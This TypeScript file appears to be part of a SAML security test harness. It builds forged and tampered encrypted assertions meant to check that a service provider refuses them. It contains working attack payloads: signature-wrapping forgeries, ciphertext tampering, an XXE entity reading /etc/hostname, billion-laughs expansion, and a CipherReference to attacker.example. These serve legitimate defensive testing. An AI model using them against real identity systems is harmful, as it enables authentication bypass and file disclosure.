/** The service provider's encryption key is public: anybody can encrypt anything, and ask again (T29 to T31). */
import { type EncryptOptions, encryptedAssertion } from '../encrypt.ts'
import { signXml } from '../sign.ts'
import { text } from '../xml-text.ts'
import { type Draft, draft } from './attack.ts'
import { type Material, SAML, withoutOuterSignature } from './material.ts'
import { appended, before, changed, withId } from './outline.ts'
import { rootIdOf } from './signing.ts'
import { inKeyInfo, signedAs, standalone } from './wrapping.ts'

/** Nothing without the service provider's encryption key. */
export function encryption(m: Material): readonly Draft[] {
  const recipient = m.genuine.encryptionKey
  if (recipient === undefined) return []
  const inner = m.shape === 'both' ? withoutOuterSignature(m) : m
  return [
    ...unsigned(inner, recipient),
    ...(m.shape === 'response' ? underSignature(m, recipient) : []),
    ...ciphertexts(m, recipient),
    ...plaintexts(m, recipient),
  ]
}

/** Confidential is not authentic: a forged Assertion that was encrypted is still forged. */
function unsigned(m: Material, recipient: string): readonly Draft[] {
  const sealed = (plaintext: string) => encryptedAssertion(plaintext, recipient)
  const alone = (element: string) => standalone(m, element)
  const forged = alone(m.forgedAssertion)
  const bare = m.bareResponse
  const put = (content: string) => changed(bare, m.assertion, content)
  const extensions = (content: string) => `<${m.samlp}Extensions>${content}</${m.samlp}Extensions>`
  const drafts = [
    draft('T29-forged', 'Forged Assertion, encrypted, nothing signed', () => put(sealed(forged))),
    draft('T29-genuine-unsigned', 'Genuine Assertion without its signature, encrypted, nothing signed', () =>
      put(sealed(alone(m.bareAssertion))),
    ),
    draft('T29-attacker-signed', 'Forged Assertion signed by the attacker, encrypted', () =>
      m.fake(m.attacker, { sign: 'assertion', encrypt: { recipients: recipient } }),
    ),
    draft('T29-encrypted-response', 'A whole forged Response, encrypted', () => put(sealed(m.forgedResponse))),
  ]
  if (!m.assertionSignature) return drafts
  const xml = m.xml
  const beside = (content: string) => changed(xml, m.assertion, content)
  return [
    ...drafts,
    draft('T29-beside', 'Forged encrypted Assertion before the signed one', () => beside(sealed(forged) + m.assertion)),
    draft('T29-beside-after', 'Forged encrypted Assertion behind the signed one', () =>
      beside(m.assertion + sealed(forged)),
    ),
    draft('T29-both-encrypted', 'Forged and signed Assertion, each encrypted', () =>
      beside(sealed(forged) + sealed(alone(m.assertion))),
    ),
    draft('T29-extensions', 'Forged encrypted Assertion in Extensions', () =>
      before(xml, `<${m.samlp}Status>`, extensions(sealed(forged))),
    ),
    draft('T29-key-info', 'Forged encrypted Assertion in KeyInfo of a signature that stays valid', () =>
      changed(xml, m.assertionSignature, inKeyInfo(m, m.assertionSignature, sealed(forged))),
    ),
    draft(
      'T29-signature-outside',
      'Forged encrypted Assertion; the signed one inside a signature of the Response',
      () => before(put(sealed(forged)), `<${m.samlp}Status>`, inKeyInfo(m, m.assertionSignature, m.bareAssertion)),
    ),
    draft('T29-wrapped', 'Forged Assertion around the signed one, encrypted', () =>
      put(sealed(alone(appended(m.forgedAssertion, m.assertion)))),
    ),
    draft('T29-wrapped-in-signature', 'Forged Assertion with the signature, the signed one in KeyInfo, encrypted', () =>
      put(sealed(alone(signedAs(m, m.forgedAssertion, inKeyInfo(m, m.assertionSignature, m.bareAssertion))))),
    ),
    draft('T29-twin', 'Forged Assertion with the signed ID and signature, encrypted', () =>
      put(sealed(alone(signedAs(m, withId(m.forgedAssertion, m.assertionId), m.assertionSignature)))),
    ),
  ]
}

/** Only the Response was signed: its signature stays, what it was over does not. */
function underSignature(m: Material, recipient: string): readonly Draft[] {
  const sealed = (assertion: string) => encryptedAssertion(standalone(m, assertion), recipient)
  return [
    draft('T29-kept-signature', 'Forged encrypted Assertion under the genuine signature of the Response', () =>
      changed(m.xml, m.assertion, sealed(m.forgedAssertion)),
    ),
    draft('T29-in-response-signature', 'Forged encrypted Assertion in KeyInfo of the genuine signature', () =>
      changed(m.xml, m.responseSignature, inKeyInfo(m, m.responseSignature, sealed(m.forgedAssertion))),
    ),
    draft('T29-response-wrapped', 'Forged encrypted Assertion; the signed Response in KeyInfo of its signature', () =>
      before(
        changed(m.forgedResponse, m.forgedAssertion, sealed(m.forgedAssertion)),
        `<${m.samlp}Status>`,
        inKeyInfo(m, m.responseSignature, m.bareResponse),
      ),
    ),
  ]
}

/**
 * A genuine message around an EncryptedAssertion that the attacker wrote or changed. With the identity provider's keys
 * the Response is signed after that, so that nothing but the encryption can be a reason to refuse.
 */
function around(m: Material, element: (assertion: string) => string): string {
  const keys = m.genuine.idpKeys
  if (keys === undefined) {
    const { bareResponse, assertion } = m
    return changed(bareResponse, assertion, element(standalone(m, assertion)))
  }
  const plain = m.fake(keys, { sign: m.shape === 'response' ? 'none' : 'assertion' }, true)
  const assertion = /<saml2:Assertion .*<\/saml2:Assertion>/s.exec(plain)?.[0] ?? ''
  const sealed = changed(plain, assertion, element(assertion))
  return m.shape === 'assertion' ? sealed : signXml(sealed, rootIdOf(sealed), keys)
}

const VALUE = /(?<=<xenc:CipherValue>)[^<]*(?=<\/xenc:CipherValue><\/xenc:CipherData><\/xenc:EncryptedData>)/

function ciphertexts(m: Material, recipient: string): readonly Draft[] {
  const sealed = (options: EncryptOptions) => () =>
    around(m, (assertion) => encryptedAssertion(assertion, recipient, options))
  const cut = (edit: (bytes: Buffer) => Buffer, data?: EncryptOptions['data']) =>
    sealed({
      data,
      edit: (xml) => changed(xml, VALUE, edit(Buffer.from(VALUE.exec(xml)?.[0] ?? '', 'base64')).toString('base64')),
    })
  const rewritten = (from: string | RegExp, to: string, options: EncryptOptions = {}) =>
    sealed({ ...options, edit: (xml) => changed(xml, from, to) })
  const flipped = (at: number, data?: EncryptOptions['data'], bit = 1) =>
    cut((bytes) => {
      const place = at < 0 ? bytes.length + at : at
      bytes[place] = (bytes[place] ?? 0) ^ bit
      return bytes
    }, data)
  const [gcm, cbc] = ['http://www.w3.org/2009/xmlenc11#aes256-gcm', 'http://www.w3.org/2001/04/xmlenc#aes256-cbc']
  return [
    draft('T30-tag', 'One bit of the authentication tag', sealed({ spoil: 'tag' })),
    draft('T30-text', 'One bit of the ciphertext', sealed({ spoil: 'text' })),
    draft('T30-key', 'One bit of the encrypted key', sealed({ spoil: 'key' })),
    draft('T30-iv', 'One bit of the initialisation vector', flipped(0)),
    draft('T30-last-text', 'One bit of the last byte before the tag', flipped(-17)),
    draft(
      'T30-no-tag',
      'The authentication tag left out',
      cut((bytes) => bytes.subarray(0, -16)),
    ),
    draft(
      'T30-short-tag',
      'An authentication tag of four bytes',
      cut((bytes) => bytes.subarray(0, -12)),
    ),
    draft(
      'T30-only-iv',
      'Nothing but the initialisation vector',
      cut((bytes) => bytes.subarray(0, 12)),
    ),
    draft(
      'T30-empty',
      'An empty CipherValue',
      cut(() => Buffer.alloc(0)),
    ),
    draft('T30-not-base64', 'A CipherValue that is no base64', rewritten(VALUE, '!!!')),
    draft('T30-other-recipient', 'Encrypted for somebody else', () =>
      around(m, (assertion) => encryptedAssertion(assertion, certificatePem(m.attacker.certificate))),
    ),
    draft(
      'T30-short-key',
      'A content key of the wrong length',
      rewritten(`Algorithm="${gcm}"`, 'Algorithm="http://www.w3.org/2009/xmlenc11#aes128-gcm"'),
    ),
    draft('T30-gcm-called-cbc', 'GCM that calls itself CBC', rewritten(`Algorithm="${gcm}"`, `Algorithm="${cbc}"`)),
    draft(
      'T30-cbc-called-gcm',
      'CBC that calls itself GCM',
      rewritten(`Algorithm="${cbc}"`, `Algorithm="${gcm}"`, { data: 'aes256-cbc' }),
    ),
    draft('T30-cbc-padding', 'CBC with padding that cannot be', flipped(-17, 'aes256-cbc', 0x80)),
    draft('T30-cbc-text', 'CBC with good padding and one bit of the first letter changed', flipped(0, 'aes256-cbc')),
    draft(
      'T30-cbc-cut',
      'CBC cut inside a block',
      cut((bytes) => bytes.subarray(0, -3), 'aes256-cbc'),
    ),
    draft('T30-3des', 'Triple DES', sealed({ data: 'tripledes-cbc' })),
    draft('T30-rsa-15', 'The key encrypted with RSA PKCS#1 1.5', sealed({ key: 'rsa-1_5' })),
    draft('T30-rsa-15-spoiled', 'The same with one bit changed', sealed({ key: 'rsa-1_5', spoil: 'key' })),
    draft(
      'T30-mask',
      'A mask function other than it says',
      sealed({ key: 'rsa-oaep', oaepHash: 'sha256', claimedMask: 'sha512' }),
    ),
    draft('T30-unknown', 'An unknown cipher', rewritten(`Algorithm="${gcm}"`, 'Algorithm="urn:example:cipher"')),
    draft('T30-no-key', 'No encrypted key', rewritten(/<xenc:EncryptedKey.*<\/xenc:EncryptedKey>/s, '')),
    draft(
      'T30-cipher-reference',
      'The ciphertext is somewhere on the network',
      rewritten(
        /<xenc:CipherData><xenc:CipherValue>[^<]*<\/xenc:CipherValue><\/xenc:CipherData>(?=<\/xenc:EncryptedData>)/,
        '<xenc:CipherData><xenc:CipherReference URI="https://attacker.example/x"></xenc:CipherReference></xenc:CipherData>',
      ),
    ),
    draft(
      'T30-content-type',
      'The plaintext called content, not element',
      rewritten('xmlenc#Element"', 'xmlenc#Content"'),
    ),
    ...(m.shape === 'assertion'
      ? [draft('T30-cbc-unsigned', 'CBC under a Response that nobody signed', sealed({ data: 'aes256-cbc' }))]
      : []),
  ]
}

/** Everything the gate refuses outside, refused inside too. */
function plaintexts(m: Material, recipient: string): readonly Draft[] {
  const hidden = (edit: (assertion: string) => string | Uint8Array) => () =>
    around(m, (assertion) => encryptedAssertion(edit(assertion), recipient))
  const forged = standalone(m, m.forgedAssertion)
  const name = `>${text(m.nameId)}</`
  const half = Math.max(1, Math.floor(m.nameId.length / 2))
  const splitBy = (markup: string) =>
    hidden((xml) => changed(xml, name, `>${text(m.nameId.slice(0, half))}${markup}${text(m.nameId.slice(half))}</`))
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const wrapper = (xml: string) => `<saml2:Advice xmlns:saml2="${SAML}">${xml}</saml2:Advice>`
  return [
    draft(
      'T31-type',
      'A document type in the plaintext',
      hidden((xml) => `<!DOCTYPE r>${xml}`),
    ),
    draft(
      'T31-external-entity',
      'An external entity in the plaintext',
      hidden((xml) => `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>${changed(xml, name, '>&e;</')}`),
    ),
    draft(
      'T31-laughs',
      'Ten levels of entities in the plaintext',
      hidden((xml) => `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]>${changed(xml, name, '>&l10;</')}`),
    ),
    draft('T31-comment', 'A comment inside the name', splitBy('<!---->')),
    draft('T31-instruction', 'A processing instruction inside the name', splitBy('<?p?>')),
    draft('T31-cdata', 'CDATA inside the name', splitBy('<![CDATA[]]>')),
    draft('T31-wrapper', 'The Assertion inside another element', hidden(wrapper)),
    draft(
      'T31-forged-first',
      'A forged Assertion before the signed one',
      hidden((xml) => forged + xml),
    ),
    draft(
      'T31-forged-last',
      'A forged Assertion behind the signed one',
      hidden((xml) => xml + forged),
    ),
    draft(
      'T31-both-wrapped',
      'A forged and the signed Assertion inside another element',
      hidden((xml) => wrapper(forged + xml)),
    ),
    draft(
      'T31-text-before',
      'Text before the Assertion',
      hidden((xml) => `x${xml}`),
    ),
    draft(
      'T31-text-after',
      'Text behind the Assertion',
      hidden((xml) => `${xml}x`),
    ),
    draft(
      'T31-closes-envelope',
      'A plaintext that closes the element it would be put into',
      hidden((xml) => `${xml}</saml2p:Response>${forged}`),
    ),
    draft(
      'T31-again',
      'An EncryptedAssertion in the EncryptedAssertion',
      hidden((xml) => encryptedAssertion(xml, recipient)),
    ),
    draft(
      'T31-response',
      'The whole message in the plaintext',
      hidden(() => m.xml),
    ),
    draft(
      'T31-undeclared',
      'A plaintext that borrows its prefix from the envelope',
      hidden((xml) => changed(xml, /xmlns:saml2="[^"]*"/, '')),
    ),
    draft(
      'T31-empty',
      'An empty plaintext',
      hidden(() => ''),
    ),
    draft(
      'T31-spaces',
      'A plaintext of spaces',
      hidden(() => ' '.repeat(64)),
    ),
    draft(
      'T31-nul',
      'A NUL behind the Assertion',
      hidden((xml) => `${xml}\0`),
    ),
    draft(
      'T31-utf16',
      'A plaintext in UTF-16',
      hidden((xml) => Buffer.from(xml, 'utf16le')),
    ),
    draft(
      'T31-not-utf8',
      'A plaintext that is no UTF-8',
      hidden((xml) => Buffer.concat([Buffer.from(xml), Buffer.of(0xff)])),
    ),
    draft(
      'T31-nesting',
      'Sixty levels of elements in the plaintext',
      hidden((xml) =>
        changed(
          xml,
          '</saml2:Conditions>',
          `</saml2:Conditions><saml2:Advice>${'<a>'.repeat(60)}${'</a>'.repeat(60)}</saml2:Advice>`,
        ),
      ),
    ),
    draft(
      'T31-siblings',
      'Ten thousand elements in the plaintext',
      hidden((xml) =>
        changed(
          xml,
          '</saml2:Conditions>',
          `</saml2:Conditions><saml2:Advice>${'<a></a>'.repeat(10_000)}</saml2:Advice>`,
        ),
      ),
    ),
    draft(
      'T31-id',
      'Another ID on the Assertion in the plaintext',
      hidden((xml) => changed(xml, ' ID="', ' Id="_x" ID="')),
    ),
  ]
}

const certificatePem = (certificate: string): string =>
  `-----BEGIN CERTIFICATE-----\n${certificate.match(/.{1,64}/g)?.join('\n')}\n-----END CERTIFICATE-----\n`
